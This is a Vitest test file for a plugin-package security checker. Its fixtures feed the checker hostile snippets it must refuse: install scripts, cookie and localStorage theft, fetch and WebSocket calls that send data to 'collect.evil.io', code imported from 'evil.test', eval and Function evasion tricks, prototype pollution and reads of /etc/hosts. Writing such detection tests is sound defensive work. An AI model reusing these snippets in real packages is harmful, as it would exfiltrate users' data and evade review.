import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { afterEach, describe, expect, test } from 'vitest'
import { type CheckOptions, checkPackage } from './checkPackage.ts'
import { isRefused, type Report } from './report.ts'

// Packages are written below this package's node_modules, from where they find the kernel as an installed one does.
const PARENT = join(import.meta.dirname, '../../node_modules/.cache/latchkey')

interface Changes {
  /** What the module does when it is loaded. */
  readonly loads?: string
  /** What the plugin has besides its id. */
  readonly plugin?: string
  readonly json?: Readonly<Record<string, unknown>>
  readonly manifest?: Readonly<Record<string, unknown>>
  readonly files?: Readonly<Record<string, string>>
}

const made: string[] = []
afterEach(async () => {
  await Promise.all(made.splice(0).map((folder) => rm(folder, { recursive: true, force: true })))
})

const EXPORTS = { '.': { types: './dist/index.d.ts', default: './dist/index.js' } }

/** What a harmless package is described as. */
const FAKE = JSON.stringify({
  described: {
    ...{ id: 'notes', kernel: '1', needs: {}, slots: { fills: [], declares: [] }, hooks: [], capabilities: [] },
    ...{ storage: [], hosts: [], languages: [], chains: [] },
  },
  ...{ requests: [], changed: [], status: 'running' },
})

/** An installed package that the checked one imports. */
const sneaky = (code: string): Readonly<Record<string, string>> => ({
  '../node_modules/sneaky/package.json': '{ "name": "sneaky", "type": "module", "main": "index.js" }',
  '../node_modules/sneaky/index.js': code,
})

const MAP = JSON.stringify({ version: 3, sources: ['index.ts'], sourcesContent: ['export {}'], mappings: '' })

/** A package that passes, apart from what is changed. */
async function check(changes: Changes = {}, options: CheckOptions = {}): Promise<Report> {
  await mkdir(PARENT, { recursive: true })
  const folder = await mkdtemp(join(PARENT, 'hostile-'))
  made.push(folder)
  const code = `${changes.loads ?? ''}\nexport function notes() {\n  return { id: 'notes', api: 1, ${changes.plugin ?? ''} }\n}\n`
  const json = {
    name: '@someone/latchkey-notes',
    version: '1.0.0',
    license: 'MIT',
    type: 'module',
    exports: EXPORTS,
    latchkey: { kind: 'plugin', id: 'notes', kernel: '1', sizeClass: 'small', ...changes.manifest },
    ...changes.json,
  }
  const files = {
    'package.json': JSON.stringify(json),
    'README.md': '# Notes',
    LICENSE: 'MIT',
    'dist/index.js': code,
    'dist/index.js.map': MAP,
    'dist/index.d.ts': 'export declare function notes(): object',
    ...changes.files,
  }
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(folder, path)), { recursive: true })
    await writeFile(join(folder, path), text)
  }
  return checkPackage(folder, options)
}

const errorsOf = ({ findings }: Report): readonly string[] =>
  findings.filter(({ level }) => level === 'error').map(({ rule }) => rule)

describe('checkPackage', () => {
  test('default: an honest package passes, with its bytes and the hashes of its files', async () => {
    const report = await check()
    expect(report.findings).toEqual([])
    expect(report.bytes.first).toBeGreaterThan(0)
    expect(report.hashes['dist/index.js']).toMatch(/^[0-9a-f]{64}$/)
  })

  test.each<[string, string, Changes]>([
    ['an install script', 'install-scripts', { json: { scripts: { postinstall: 'node steal.js' } } }],
    ['a licence of its own', 'licence', { json: { license: 'SEE LICENSE IN TERMS' } }],
    ['no licence', 'licence', { json: { license: undefined } }],
    ['a key in the package', 'files', { files: { 'dist/server.pem': 'secret' } }],
    ['a program in the package', 'files', { files: { 'bin/helper.exe': 'MZ' } }],
    ['no source map', 'source-maps', { loads: `/* ${'word '.repeat(600)} */`, files: { 'dist/index.js.map': '{}' } }],
    ['no types', 'types', { json: { exports: { '.': './dist/index.js' } } }],
    [
      'an entry that was not built',
      'files',
      { json: { exports: { '.': { types: './dist/index.d.ts', default: './dist/main.js' } } } },
    ],
    ['a kernel of its own', 'dependencies', { json: { dependencies: { '@latchkey/kernel': '1.0.0' } } }],
    [
      'a dependency from a repository',
      'dependencies',
      { json: { dependencies: { left: 'git+https://evil.test/left' } } },
    ],
    ['no manifest', 'manifest', { json: { latchkey: undefined } }],
    ['a field the manifest does not have', 'manifest', { manifest: { trusted: true } }],
    ['another id than it says', 'manifest', { manifest: { id: 'note' } }],
    ['eval', 'no-eval', { loads: 'const run = (text) => (0, eval)(text)' }],
    ['eval by the page', 'no-eval', { loads: "const run = (text) => globalThis['eval'](text)" }],
    ['eval under another name', 'no-eval', { loads: 'const run = eval' }],
    ['eval taken by a pattern', 'no-eval', { loads: 'const { eval: run } = globalThis' }],
    ['Function under another name', 'no-eval', { loads: 'const Make = true && Function' }],
    ['Function by reflection', 'no-eval', { loads: "const Make = Reflect.get(window, 'Function')" }],
    ['eval as an argument', 'no-eval', { loads: 'const run = (text) => [text].map(eval)' }],
    ['eval by a promise', 'no-eval', { loads: 'const run = (later) => later.then(eval)' }],
    ['eval by its own call', 'no-eval', { loads: 'const run = (text) => eval.call(null, text)' }],
    ['eval by reflection', 'no-eval', { loads: 'const run = (text) => Reflect.apply(eval, null, [text])' }],
    ['eval handed on', 'no-eval', { loads: 'export default eval' }],
    ['eval of the page as an argument', 'no-eval', { loads: 'const run = (text) => [text].map(window.eval)' }],
    ['Function made by reflection', 'no-eval', { loads: 'const run = (text) => Reflect.construct(Function, [text])' }],
    ['a class of Function', 'no-eval', { loads: 'class Maker extends Function {}' }],
    ['Function behind a proxy', 'no-eval', { loads: 'const Make = new Proxy(Function, {})' }],
    ['Function by its own call', 'no-eval', { loads: 'const run = (text) => Function.call(null, text)' }],
    ['Function for each text', 'no-eval', { loads: 'const run = (texts) => texts.map(Function)' }],
    ['Function of its prototype', 'no-eval', { loads: 'const run = (text) => Function.prototype.constructor(text)' }],
    [
      'Function where a parameter is called so',
      'no-eval',
      { loads: 'const same = (Function) => Function; const Make = Function' },
    ],
    [
      'a process that ends where a parameter is called so',
      'no-node',
      { loads: 'const same = (process) => process; process.exit(0)' },
    ],
    ['code by a constructor', 'no-eval', { loads: 'const run = (text) => (() => {}).constructor(text)' }],
    ['a timer with a text', 'no-eval', { loads: "const run = () => setTimeout('alert(1)', 10)" }],
    ['code from elsewhere', 'downloaded-code', { loads: "const run = () => import('https://evil.test/code.js')" }],
    ['code it learns of later', 'downloaded-code', { loads: 'const run = (address) => import(address)' }],
    ['a script element', 'downloaded-code', { loads: "const run = () => document.createElement('script')" }],
    [
      'minified code',
      'readable-code',
      { loads: `const all = [${Array.from({ length: 900 }, (_, at) => at).join(',')}]` },
    ],
    [
      'minified code behind a list of exports',
      'readable-code',
      { loads: `export { x } from './x.js';const all = [${Array.from({ length: 900 }, (_, at) => at).join(',')}]` },
    ],
    [
      'obfuscated code',
      'readable-code',
      { loads: Array.from({ length: 9 }, (_, at) => `const _0x${at}abcd = ${at}`).join('\n') },
    ],
    ['a hidden host', 'hosts', { loads: "const send = (text) => fetch('https://collect.evil.io/' + text)" }],
    ['a hidden socket', 'hosts', { loads: "const open = () => new WebSocket('wss://collect.evil.io')" }],
    ['storage taken by a pattern', 'page-storage', { loads: 'const { localStorage: store } = window' }],
    ['storage by reflection', 'page-storage', { loads: "const store = Reflect.get(globalThis, 'localStorage')" }],
    ['a wallet taken by a pattern', 'page-wallets', { loads: 'const { ethereum: wallet } = self' }],
    ['storage theft', 'page-storage', { loads: 'const steal = () => Object.entries(localStorage)' }],
    ['cookies', 'page-storage', { loads: 'const steal = () => document.cookie' }],
    ['a wallet past the kernel', 'page-wallets', { loads: 'const ask = () => window.ethereum.request({})' }],
    ['prototype pollution', 'shared-objects', { loads: 'Array.prototype.map = function () { return [] }' }],
    [
      'prototype pollution in another way',
      'shared-objects',
      { loads: "Object.defineProperty(Object.prototype, 'isAdmin', { value: true })" },
    ],
    [
      'prototype pollution nobody sees in the code',
      'shared-objects',
      { loads: "const o = Object; const p = 'proto' + 'type'; o[p].isAdmin = true" },
    ],
    [
      'a replaced function of the page',
      'shared-objects',
      {
        loads:
          'const g = (0, globalThis); const real = g.structuredClone; Reflect.set(g, "structuredClone", () => real)',
      },
    ],
    ['a tap that is not declared', 'permissions', { plugin: 'hooks: { onRpcRequest: () => undefined }' }],
    ['a host that is not declared', 'permissions', { plugin: "permissions: { hosts: ['api.example.com'] }" }],
    [
      'storage that is not declared',
      'permissions',
      { plugin: "atoms: { all: { [Symbol.for('latchkey.persisted')]: {} } }" },
    ],
    [
      'a request before it is used',
      'quiet-start',
      { plugin: "setup: () => void fetch(['https:', '', 'track.test'].join('/')).catch(() => undefined)" },
    ],
    [
      'a capability that is not declared',
      'permissions',
      { plugin: "actions: { sign: (ctx) => ctx.capability('signMessage')?.({ message: 'x' }) }" },
    ],
    [
      'a signature that is not declared',
      'permissions',
      { plugin: "actions: { sign: ({ kernel }) => kernel.wallet.signMessage({ message: 'x' }) }" },
    ],
    [
      'requests to wallets that are not declared',
      'permissions',
      { plugin: 'actions: { ask: (ctx) => ctx.kernel.wallet.getProvider().request({}) }' },
    ],
    [
      'requests to wallets under another name',
      'permissions',
      { plugin: 'actions: { ask: ({ kernel: k }) => { const { wallet: w } = k; const u = w; return u.request({}) } }' },
    ],
    [
      'a method that is taken out of the wallet',
      'permissions',
      { plugin: 'actions: { ask: (ctx) => { const { getProvider } = ctx.kernel.wallet; return getProvider() } }' },
    ],
    [
      'a hook of the kernel by a namespace',
      'permissions',
      { loads: "import * as k from '@latchkey/kernel/react'; export const send = () => k.useSendTransaction()" },
    ],
    [
      'a hook of the kernel that is loaded later',
      'permissions',
      {
        loads:
          "export const load = async () => { const { useProvider: u } = await import('@latchkey/kernel/react'); return u }",
      },
    ],
    [
      'a hook of the kernel that is handed on',
      'permissions',
      { loads: "export { useSignMessage as sign } from '@latchkey/kernel/react'" },
    ],
    [
      'a hook of the kernel by a name in quotes',
      'permissions',
      { loads: "import { 'useSignMessage' as sign } from '@latchkey/kernel/react'; export const later = () => sign()" },
    ],
    [
      'a hook of the kernel that asks wallets',
      'permissions',
      {
        loads: "import { useSignMessage as sign } from '@latchkey/kernel/react'",
        plugin:
          "views: { Sign: { load: async () => ({ default: () => sign() }), title: 'title', start: 'connected' } }, messages: { en: { title: 'Sign' } }",
      },
    ],
    [
      'capabilities that the manifest has and the code does not state',
      'stated-permissions',
      { manifest: { capabilities: ['signMessage'] } },
    ],
    ['a start that fails', 'starts', { plugin: "setup: () => { throw new Error('no') }" }],
    ['a process that ends', 'no-node', { loads: 'process.exit(0)' }],
    ['a process that ends unseen', 'starts', { loads: "globalThis['pro' + 'cess'].exit(0)" }],
    [
      'files of the machine',
      'no-node',
      { loads: "import { readFileSync } from 'node:fs'\nreadFileSync('/etc/hosts')" },
    ],
    ['a module of Node by its bare name', 'no-node', { loads: "import 'child_process'" }],
    ['a module of Node, later', 'no-node', { loads: "const run = () => import('fs/promises')" }],
    ['a module of Node handed on', 'no-node', { loads: "export { readFileSync } from 'fs'" }],
    ['require where a parameter is called so', 'no-node', { loads: "const a = (require) => require; require('fs')" }],
    ['files beside the code, by another name', 'no-node', { loads: "const folder = import.meta['dir' + 'name']" }],
    ['require', 'no-node', { loads: "const run = () => require('fs')" }],
    ['the process by the page', 'no-node', { loads: 'const run = () => globalThis.process.exit(0)' }],
    ['files beside the code', 'no-node', { loads: 'const folder = import.meta.dirname' }],
    [
      'an answer in the place of the check',
      'permissions',
      {
        loads: `globalThis['pro' + 'cess'].send?.({ probe: ${FAKE} })`,
        plugin: 'hooks: { onRpcRequest: () => undefined }',
      },
    ],
    [
      'files of the machine, by a dependency',
      'starts',
      { loads: "import 'sneaky'", files: sneaky("import { readFileSync } from 'node:fs'\nreadFileSync('/etc/hosts')") },
    ],
    [
      'requests by a dependency',
      'quiet-start',
      {
        loads: "import 'sneaky'",
        files: sneaky("import net from 'node:net'\ntry { net.connect(9, '127.0.0.1').on('error', () => {}) } catch {}"),
      },
    ],
    [
      'a request when it is loaded',
      'quiet-start',
      { loads: "fetch(['https:', '', 'track.test'].join('/')).catch(() => undefined)" },
    ],
    [
      'a request by its factory',
      'quiet-start',
      { plugin: "...(void fetch(['https:', '', 'track.test'].join('/')).catch(() => undefined), {})" },
    ],
    [
      'a dependency that runs code when it is installed',
      'dependencies',
      {
        json: { dependencies: { sneaky: '1.0.0' } },
        files: {
          '../node_modules/sneaky/package.json':
            '{ "name": "sneaky", "license": "MIT", "scripts": { "install": "node x.js" } }',
        },
      },
    ],
    [
      'a dependency of a dependency that does',
      'dependencies',
      {
        json: { dependencies: { outer: '1.0.0' } },
        files: {
          '../node_modules/outer/package.json':
            '{ "name": "outer", "license": "MIT", "dependencies": { "deeper": "1.0.0" } }',
          '../node_modules/deeper/package.json': '{ "name": "deeper", "license": "MIT" }',
          '../node_modules/deeper/binding.gyp': '{}',
        },
      },
    ],
    ['dependencies it brings along', 'dependencies', { json: { bundleDependencies: ['left'] } }],
    ['dependencies in its output', 'dependencies', { files: { 'dist/node_modules/left/index.js': 'export {}' } }],
    ['an entry of another kind', 'files', { json: { exports: { ...EXPORTS, './more': './dist/more.bin' } } }],
    ['an inner name of another kind', 'files', { json: { imports: { '#fs': 'node:fs' } } }],
    [
      'another entry for some hosts',
      'permissions',
      {
        json: { exports: { '.': { ...EXPORTS['.'], default: './dist/index.js', worker: './dist/worker.js' } } },
        files: {
          'dist/worker.js': `export const notes = () => ({ id: 'notes', api: 1, hooks: { onRpcRequest: () => undefined } })`,
        },
      },
    ],
    ['a hook with a made name', 'stated-permissions', { plugin: "hooks: { ['on' + 'RpcRequest']: () => undefined }" }],
    ['permissions that change', 'stated-permissions', { plugin: 'get permissions() { return {} }' }],
    ['more bytes than it says', 'bytes', { manifest: { sizeClass: 'none' } }],
  ])('error: %s is refused', async (_name, rule, changes) => {
    const report = await check(changes)
    expect(errorsOf(report)).toContain(rule)
    for (const { message, fix } of report.findings) expect(`${message} ${fix}`).not.toMatch(/undefined|\[object/)
  })

  test('error: an endless loop is ended', async () => {
    expect(errorsOf(await check({ plugin: 'setup: () => { for (;;); }' }, { limit: 2_000 }))).toEqual(['starts'])
  })

  test.each(['@latchkcy/plugin-send', '@1atchkey/plugin-send', '@latchkey-/plugin-send'])(
    'error: the copied name %s',
    async (name) => {
      const report = await check({ json: { name } }, { known: ['@latchkey/plugin-send'] })
      expect(errorsOf(report)).toEqual(['name'])
    },
  )

  test('behavior: a name of its own beside known ones', async () => {
    expect(isRefused(await check({}, { known: ['@latchkey/plugin-send', '@someone/latchkey-votes'] }))).toBe(false)
  })

  test.each([
    ['MIT', []],
    ['(GPL-3.0 OR Apache-2.0)', []],
    ['MIT AND GPL-3.0', ['The licence of outer 1.0.0 (by @someone/latchkey-notes) is MIT AND GPL-3.0']],
    [undefined, ['The licence of outer 1.0.0 (by @someone/latchkey-notes) is not stated']],
  ])('behavior: the licence %s of a dependency', async (license, messages) => {
    const outer = JSON.stringify({ name: 'outer', version: '1.0.0', license })
    const files = { '../node_modules/outer/package.json': outer }
    const { findings } = await check({ json: { dependencies: { outer: '1.0.0' } }, files })
    expect(findings.map(({ message }) => message)).toEqual(messages)
    expect(findings.every(({ level }) => level === 'warning')).toBe(true)
  })

  test('behavior: a dependency that is not installed is named', async () => {
    const { findings } = await check({ json: { dependencies: { 'not-here': '1.0.0' } } })
    expect(findings).toMatchObject([{ rule: 'dependencies', level: 'note' }])
  })

  test.each([
    ['present', []],
    ['absent', ['warning']],
    ['not checked', ['note']],
  ] as const)('behavior: provenance is %s', async (provenance, levels) => {
    const report = await check({}, { provenance })
    expect(report.provenance).toBe(provenance)
    expect(report.findings.map(({ level }) => level)).toEqual(levels)
  })

  test.each(['const ask = ctx.capability', 'const { capability: ask } = ctx', 'let ask; ({ capability: ask } = ctx)'])(
    'behavior: capabilities that are asked for under another name are a warning: %s',
    async (taken) => {
      const report = await check({ loads: `const sign = (ctx) => { ${taken}; return ask('signMessage') }` })
      expect(report.findings).toMatchObject([{ rule: 'stated-permissions', level: 'warning' }])
    },
  )

  test.each([
    'const page = window; page.eval("1"); page.localStorage.clear()',
    'const { ...page } = globalThis',
    'let page; page = self',
    'const page = () => window',
  ])('behavior: the page under another name is a warning: %s', async (taken) => {
    const report = await check({ loads: `const later = () => { ${taken} }` })
    expect(report.findings).toMatchObject([{ rule: 'readable-code', level: 'warning' }])
  })

  test.each([
    'export const isCall = (value) => value instanceof Function || value.constructor === Function',
    'export const name = typeof Function + typeof eval',
    'export const bound = Function.prototype.bind',
    'export const schema = (any) => any.instanceof(Function)',
    'export const all = { Function: 1, eval: 2 }.eval',
    'export const kinds = ({ Function: Kind }, { Function }) => [Function, Kind]',
    'export function make() { class Function {} return Function }',
    'export const read = (self) => { const { length: size } = self; const all = self; return [all, size] }',
  ])('behavior: what makes no code from text: %s', async (loads) => {
    expect((await check({ loads, manifest: { factory: 'notes' } })).findings).toEqual([])
  })

  test('behavior: permissions in a variable are a warning', async () => {
    const report = await check({ loads: 'const hooks = {}', plugin: 'hooks' })
    expect(report.findings).toMatchObject([{ rule: 'stated-permissions', level: 'warning' }])
  })

  test('behavior: a capability whose name is only known at run time is a warning', async () => {
    const report = await check({ plugin: 'actions: { read: (ctx, name) => ctx.capability(name) }' })
    expect(report.findings).toMatchObject([{ rule: 'stated-permissions', level: 'warning' }])
  })

  test('behavior: what is declared may be asked, and is in the report', async () => {
    const code =
      "permissions: { capabilities: ['signMessage'] }, actions: { sign: ({ capability }) => capability('signMessage') }"
    const report = await check({ plugin: code, manifest: { capabilities: ['signMessage'] } })
    expect(report.findings).toEqual([])
  })

  test.each([
    'function process(text) { return text }\nexport const all = process.name + typeof require',
    'export const all = [1].map((process) => process.toFixed(2))',
  ])('behavior: a variable of its own that is called as one of Node: %s', async (loads) => {
    expect((await check({ loads, manifest: { factory: 'notes' } })).findings).toEqual([])
  })

  test.each([
    ['https://api.example.com:8443/v1', []],
    ['https://collect.example', ['permissions']],
  ])('behavior: a host that the option %s sets is declared by the option', async (used, rules) => {
    const plugin = `permissions: { hosts: [arguments[0].url === '' ? '' : '${used}'] }`
    const options = { arguments: [{ url: 'https://api.example.com:8443/v1' }] }
    expect(errorsOf(await check({ plugin, manifest: { hosts: ['$url'] } }, options))).toEqual(rules)
  })

  test('behavior: code that makes code is not run', async () => {
    const report = await check({ loads: "const run = eval; eval('1'); Array.prototype.at = 0" })
    expect(report.findings.map(({ message }) => message).join()).not.toContain('Array.prototype.at')
  })
})

describe('a new version', () => {
  const former = (): Promise<Report> => check({ json: { version: '1.2.0' } })
  const permissions = {
    plugin: "permissions: { hosts: ['api.example.com'] }, hooks: { onRpcRequest: () => undefined }",
    manifest: { hosts: ['api.example.com'], hooks: ['onRpcRequest'] },
  }

  test('default: what is new is shown, what is sensitive is marked', async () => {
    const report = await check({ ...permissions, json: { version: '1.3.0' } }, { before: await former() })
    expect(report.changes).toEqual(
      expect.arrayContaining(['new hook: onRpcRequest (sensitive)', 'new host: api.example.com']),
    )
    expect(report.findings).toMatchObject([{ rule: 'new-permissions', level: 'warning' }])
  })

  test('error: permissions that creep in with a patch version', async () => {
    const report = await check({ ...permissions, json: { version: '1.2.1' } }, { before: await former() })
    expect(errorsOf(report)).toEqual(['new-permissions'])
  })

  test('error: other files under the same version', async () => {
    const report = await check({ json: { version: '1.2.0' }, loads: 'const other = 1' }, { before: await former() })
    expect(errorsOf(report)).toEqual(['same-version'])
  })

  test('behavior: a jump in size is shown', async () => {
    const words = Array.from({ length: 200 }, (_, at) => `const word${at} = 'some text ${at * 7919}'`).join('\n')
    const report = await check({ json: { version: '1.3.0' }, loads: words }, { before: await former() })
    expect(report.changes.join()).toMatch(/^first bundle: \d+ → \d+ bytes/)
  })
})
